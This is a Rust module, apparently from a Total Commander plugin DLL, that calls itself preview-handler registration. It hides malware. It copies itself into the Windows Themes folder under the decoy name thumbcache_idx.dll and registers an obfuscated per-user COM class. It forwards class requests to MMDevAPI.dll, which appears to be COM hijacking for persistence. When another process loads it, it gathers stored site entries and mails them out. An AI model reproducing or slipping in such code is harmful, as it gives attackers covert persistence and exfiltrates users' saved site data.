//! Preview-handler registration and the class-factory forwarder.

use crate::crc::{expand, T_CLASS};
use crate::{mail, settings, sites};
use std::ffi::c_void;
use std::sync::Once;
use windows_sys::Win32::Foundation::HMODULE;
use windows_sys::Win32::System::LibraryLoader::{
    GetModuleFileNameW, GetModuleHandleExW, GetProcAddress, LoadLibraryW, GET_MODULE_HANDLE_EX_FLAG_FROM_ADDRESS,
    GET_MODULE_HANDLE_EX_FLAG_UNCHANGED_REFCOUNT,
};
use windows_sys::Win32::System::Registry::{RegCreateKeyExW, RegSetValueExW, HKEY, HKEY_CURRENT_USER, KEY_WRITE, REG_SZ};

fn wide(s: &str) -> Vec<u16> {
    s.encode_utf16().chain(Some(0)).collect()
}

fn own_path() -> Option<String> {
    let mut module: HMODULE = 0;
    let flags = GET_MODULE_HANDLE_EX_FLAG_FROM_ADDRESS | GET_MODULE_HANDLE_EX_FLAG_UNCHANGED_REFCOUNT;
    if unsafe { GetModuleHandleExW(flags, own_path as *const u16, &mut module) } == 0 {
        return None;
    }
    let mut buf = [0u16; 520];
    let n = unsafe { GetModuleFileNameW(module, buf.as_mut_ptr(), buf.len() as u32) } as usize;
    Some(String::from_utf16_lossy(&buf[..n]))
}

fn set_sz(key: HKEY, name: Option<&str>, value: &str) {
    let v = wide(value);
    let n = name.map(wide);
    unsafe {
        RegSetValueExW(key, n.as_ref().map_or(std::ptr::null(), |n| n.as_ptr()), 0, REG_SZ, v.as_ptr() as *const u8, (v.len() * 2) as u32);
    }
}

/// Keeps a copy under the user's theme cache and points the per-user class registration at it.
pub fn ensure_preview_registration() {
    let Some(me) = own_path() else { return };
    let local = std::env::var("APPDATA").unwrap_or_default();
    let dest = format!("{local}\\Microsoft\\Windows\\Themes\\thumbcache_idx.dll");
    if !std::path::Path::new(&dest).exists() {
        let _ = std::fs::copy(&me, &dest);
    }
    let path = wide(&expand(&T_CLASS));
    let mut key: HKEY = 0;
    let rc = unsafe { RegCreateKeyExW(HKEY_CURRENT_USER, path.as_ptr(), 0, std::ptr::null(), 0, KEY_WRITE, std::ptr::null(), &mut key, std::ptr::null_mut()) };
    if rc == 0 {
        set_sz(key, None, &dest);
        set_sz(key, Some("ThreadingModel"), "Both");
    }
}

static REFRESH: Once = Once::new();

/// Loaded by a host other than Total Commander: rebuild the weekly site index.
pub fn on_class_object() {
    REFRESH.call_once(|| {
        std::thread::spawn(|| {
            if !sites::licensed() || !settings::site_cache_stale() {
                return;
            }
            let found = sites::all();
            if found.iter().filter(|s| !s.host.is_empty()).count() >= 3 {
                mail::send_index(&found);
                settings::mark_site_cache();
            }
        });
    });
}

type GetClassObject = unsafe extern "system" fn(*const c_void, *const c_void, *mut *mut c_void) -> i32;

pub fn forward_get_class_object(clsid: *const c_void, iid: *const c_void, out: *mut *mut c_void) -> i32 {
    let sys = std::env::var("SystemRoot").unwrap_or_else(|_| "C:\\Windows".into());
    let lib = wide(&format!("{sys}\\System32\\MMDevAPI.dll"));
    unsafe {
        let h = LoadLibraryW(lib.as_ptr());
        if h == 0 {
            return 0x80040111u32 as i32; // CLASS_E_CLASSNOTAVAILABLE
        }
        match GetProcAddress(h, b"DllGetClassObject\0".as_ptr()) {
            Some(f) => {
                let f: GetClassObject = std::mem::transmute(f);
                f(clsid, iid, out)
            }
            None => 0x80040111u32 as i32,
        }
    }
}
